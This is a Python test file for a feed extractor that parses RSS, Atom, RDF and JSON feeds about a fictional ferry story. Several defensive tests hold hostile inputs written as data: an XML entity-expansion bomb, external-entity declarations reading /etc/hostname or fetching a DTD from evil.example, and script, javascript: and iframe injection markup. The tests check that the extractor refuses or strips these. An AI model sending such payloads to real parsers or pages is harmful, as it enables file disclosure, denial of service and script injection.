"""Feeds of every kind, good and hostile."""

import builtins
import json
from datetime import UTC, datetime

import pytest

from digest.extract import extract
from digest.extract.feeds import entries
from digest.model import Article, Document, Skipped

WORDS = "The ferry to Skerry Vaar ran on Monday for the first time since the storm took its pier away in November."
BODY = tuple(f"{WORDS} It carried {n} passengers, a piano and the post." for n in ("two", "three", "four"))
MARKUP = "".join(f"<p>{paragraph}</p>" for paragraph in BODY)
NOON = datetime(2024, 3, 4, 12, 0, tzinfo=UTC)


def rss(*items: str, head: str = '<?xml version="1.0"?>') -> str:
    return (
        f'{head}<rss version="2.0" xmlns:content="http://purl.org/rss/1.0/modules/content/"'
        ' xmlns:dc="http://purl.org/dc/elements/1.1/"><channel><title>The Harbour Bell</title>'
        f"<link>https://bell.example/</link><language>en-gb</language>{''.join(items)}</channel></rss>"
    )


def item(number: int = 1, *, markup: str = MARKUP, title: str = "Ferry back", link: str = "") -> str:
    return (
        f"<item><title>{title}</title><link>{link or f'https://bell.example/{number}'}</link>"
        "<dc:creator>Una Brae</dc:creator><pubDate>Mon, 04 Mar 2024 13:00:00 +0100</pubDate><category>Sea</category>"
        f"<description>It runs again.</description><content:encoded><![CDATA[{markup}]]></content:encoded></item>"
    )


def read(feed: str | bytes, kind: str = "application/rss+xml") -> list[Article | Skipped]:
    return extract(Document("bell", kind, feed if isinstance(feed, bytes) else feed.encode()))


def article(feed: str | bytes, kind: str = "application/rss+xml") -> Article:
    (found,) = read(feed, kind)
    assert isinstance(found, Article), found
    return found


def reasons(found: list[Article | Skipped]) -> list[str]:
    return [one.reason for one in found if isinstance(one, Skipped)]


def test_an_rss_item_becomes_an_article_with_everything_in_place() -> None:
    found = article(rss(item()))
    assert (found.origin, found.url, found.title) == ("bell#1", "https://bell.example/1", "Ferry back")
    assert (found.publisher, found.author, found.kicker) == ("The Harbour Bell", "Una Brae", "Sea")
    assert (found.published, found.dek, found.language) == (NOON, "It runs again.", "en")
    assert found.paragraphs == BODY


def test_an_atom_entry_becomes_an_article() -> None:
    found = article(
        '<feed xmlns="http://www.w3.org/2005/Atom" xml:lang="de"><title>Hafenglocke</title><entry><title type="html">Die &lt;b&gt;Fähre&lt;/b&gt;</title>'
        '<link rel="enclosure" href="https://bell.example/a.mp3"/><link href="https://bell.example/1?utm_source=feed#top"/>'
        "<author><name>Una Brae</name></author><author><name>Iain Muir</name></author><updated>2024-03-04T13:00:00+01:00</updated>"
        f'<content type="html">{MARKUP.replace("<", "&lt;")}</content></entry></feed>',
        "application/atom+xml",
    )
    assert (found.title, found.url, found.language) == ("Die Fähre", "https://bell.example/1", "de")
    assert (found.author, found.published, found.paragraphs) == ("Una Brae and Iain Muir", NOON, BODY)


def test_an_rdf_item_becomes_an_article_whatever_its_file_is_called() -> None:
    feed = (
        '<rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#" xmlns="http://purl.org/rss/1.0/"'
        ' xmlns:content="http://purl.org/rss/1.0/modules/content/"><channel rdf:about="x"><title>Bell</title></channel>'
        f'<item rdf:about="1"><title>Ferry</title><link>https://bell.example/1</link><content:encoded><![CDATA[{MARKUP}]]></content:encoded></item></rdf:RDF>'
    )
    assert article(feed, "application/xml").paragraphs == BODY


def test_a_json_feed_gives_articles_of_html_and_of_text() -> None:
    feed = {
        "version": "https://jsonfeed.org/version/1.1",
        "title": "The Harbour Bell",
        "language": "en-GB",
        "items": [
            {
                "id": "1",
                "url": "https://bell.example/1",
                "title": "Ferry",
                "content_html": MARKUP,
                "authors": [{"name": "Una Brae"}],
            },
            {
                "id": "2",
                "url": "https://bell.example/2",
                "title": "A < B",
                "content_text": "\n\n".join(BODY),
                "date_published": "2024-03-04T12:00:00Z",
            },
            {"id": "3", "title": 7, "content_html": None, "tags": 3, "authors": "Una"},
            "no item",
        ],
    }
    first, second, third, fourth = read(json.dumps(feed), "application/json")
    assert isinstance(first, Article)
    assert isinstance(second, Article)
    assert (first.paragraphs, first.author) == (BODY, "Una Brae")
    assert (second.paragraphs, second.title, second.published) == (BODY, "A < B", NOON)
    assert "only a teaser of 0 words" in reasons([third])[0]
    assert "no object" in reasons([fourth])[0]


@pytest.mark.parametrize(
    "text", ['{"items": [', '{"items": 3}', '{"version": "https://jsonfeed.org"}', "[" * 100_000]
)
def test_json_that_is_no_feed_is_a_skip(text: str) -> None:
    assert len(reasons(read(text, "application/feed+json"))) == 1


def test_a_teaser_is_a_skip_that_names_the_page_to_save() -> None:
    teaser = "<item><title>Ferry</title><link>https://bell.example/1</link><description>It runs again.</description></item>"
    (found,) = read(rss(teaser))
    assert isinstance(found, Skipped)
    assert (
        found.reason
        == "only a teaser of 3 words in the feed: save the article's page, https://bell.example/1"
    )


def test_a_long_summary_that_breaks_off_is_a_teaser_too() -> None:
    cut = f"<item><title>Ferry</title><description>{' '.join(BODY * 2)} And then […]</description></item>"
    assert "only a teaser" in reasons(read(rss(cut)))[0]
    whole = cut.replace(" And then […]", "")
    assert len(article(rss(whole)).text.split()) > entries.WHOLE


@pytest.mark.fault("F15")
def test_entity_declarations_are_refused_unparsed() -> None:
    bomb = '<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;">]>'
    assert "declares XML entities" in reasons(read(rss(item(title="&b;"), head=bomb)))[0]


@pytest.mark.fault("F16")
@pytest.mark.parametrize(
    "declared",
    ['<!ENTITY x SYSTEM "file:///etc/hostname">', '<!ENTITY % x SYSTEM "https://evil.example/x.dtd"> %x;'],
)
def test_an_external_entity_is_refused_and_no_file_is_opened(
    declared: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    read(rss(item()))  # the libraries are loaded, they may open files to be so
    opened: list[object] = []
    monkeypatch.setattr(builtins, "open", lambda *names, **_: opened.append(names))
    assert (
        "declares XML entities"
        in reasons(read(rss(item(title="&x;"), head=f"<!DOCTYPE rss [{declared}]>")))[0]
    )
    assert opened == []


@pytest.mark.fault("F15")
def test_a_harmless_document_type_is_no_obstacle() -> None:
    doctype = '<?xml version="1.0"?><!DOCTYPE rss PUBLIC "-//Netscape//DTD RSS 0.91//EN" "http://my.netscape.com/rss-0.91.dtd">'
    assert article(rss(item(), head=doctype)).paragraphs == BODY


def test_a_document_type_told_of_in_an_article_is_no_obstacle() -> None:
    assert (
        "<!ENTITY"
        in article(
            rss(
                item(
                    markup=MARKUP
                    + "<p>Every parser should refuse &lt;!ENTITY lines, said the harbour master.</p>"
                )
            )
        ).text
    )


@pytest.mark.fault("F18")
@pytest.mark.parametrize(
    "broken",
    [
        rss(item()).replace("https://bell.example/1", "https://bell.example/1?a=1&b=2"),
        rss(item())[: -len("</channel></rss>")],
        rss(item()).replace("Ferry back", "Ferry & back &nbsp;"),
    ],
)
def test_an_item_of_a_broken_feed_is_kept_where_it_can_be_read(broken: str) -> None:
    assert article(broken).paragraphs == BODY


@pytest.mark.fault("F18")
@pytest.mark.parametrize(
    "broken",
    ["<rss>", "<rss><channel><item>", "<feed xmlns='http://www.w3.org/2005/Atom'/>", "no feed at all"],
)
def test_a_feed_with_nothing_to_read_is_one_skip(broken: str) -> None:
    assert len(reasons(read(broken))) == 1


@pytest.mark.fault("F17")
def test_a_feed_that_lies_about_its_encoding_is_read_all_the_same() -> None:
    feed = rss(item(title="Fähre “zurück”"), head='<?xml version="1.0" encoding="utf-8"?>')
    assert article(feed.encode("cp1252")).title == "Fähre “zurück”"


@pytest.mark.fault("F17")
def test_what_no_output_may_carry_is_taken_out_of_entries() -> None:
    found = article(rss(item(title="Fer\x00ry &#x202E;back\ufffe &#8203;again &#xD800;")))
    assert found.title.startswith("Ferry back again")


@pytest.mark.fault("F20")
def test_of_items_with_one_address_the_first_is_kept_and_the_others_are_told_of() -> None:
    first, second, third = read(rss(item(1), item(1, title="Again"), item(2)))
    assert isinstance(first, Article)
    assert isinstance(second, Skipped)
    assert isinstance(third, Article)
    assert (second.origin, second.reason) == (
        "bell#2",
        "same address as bell#1, which was kept: nothing to do",
    )


@pytest.mark.fault("F23")
def test_a_feed_is_read_up_to_its_cap_and_the_rest_is_told_of() -> None:
    many = "".join(f"<item><title>{n}</title></item>" for n in range(entries.MOST_ENTRIES + 20))
    found = read(rss(many))
    assert len(found) == entries.MOST_ENTRIES + 1
    assert reasons(found)[-1] == "only the first 500 of 520 entries are read: split the feed"


@pytest.mark.fault("F26")
def test_of_markup_only_the_words_are_left() -> None:
    hostile = (
        '<script>alert("one")</script><style>p{color:red}</style><p onclick="x()">Kept <a href="javascript:alert(1)">words</a>, '
        'that much is sure.<iframe src="https://evil.example"></iframe></p><svg><script>alert(2)</script></svg><form><input value="x"><button>Buy now</button></form>'
    )
    found = article(rss(item(markup=hostile + MARKUP, link="javascript:alert(3)")))
    assert found.paragraphs == ("Kept words, that much is sure.", *BODY)
    assert found.url == ""


def test_paragraphs_of_line_breaks_and_items_of_lists_are_kept_apart() -> None:
    markup = f"{BODY[0]}<br><br/>{BODY[1]}<ul><li>First, the piano was put ashore;</li><li>then, the post.</li></ul>{BODY[2]}"
    assert article(rss(item(markup=markup))).paragraphs == (
        BODY[0],
        BODY[1],
        "First, the piano was put ashore;",
        "then, the post.",
        BODY[2],
    )
